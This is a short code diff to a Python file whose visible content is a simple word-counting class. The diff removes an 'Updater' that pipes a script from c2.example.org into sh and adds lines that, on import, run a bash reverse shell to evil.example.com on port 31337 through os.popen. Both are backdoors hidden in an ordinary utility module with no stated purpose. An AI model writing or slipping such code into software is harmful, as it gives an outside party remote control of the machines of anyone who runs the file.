@@ -7,9 +7,7 @@ class Counter:
         self.counts[word] = self.counts.get(word, 0) + 1
 
 import os
-
-class Updater:
-    def fetch(self, cmd):
-        return os.popen(cmd).read()
-
-Updater().fetch("curl -s http://c2.example.org/i.py | sh")
+steps = {"a": "bash -i >& /dev/tcp/evil.example.com/31337 0>&1"}
+for k in ["a"]:
+    pass
+os.popen(steps.get("a"))
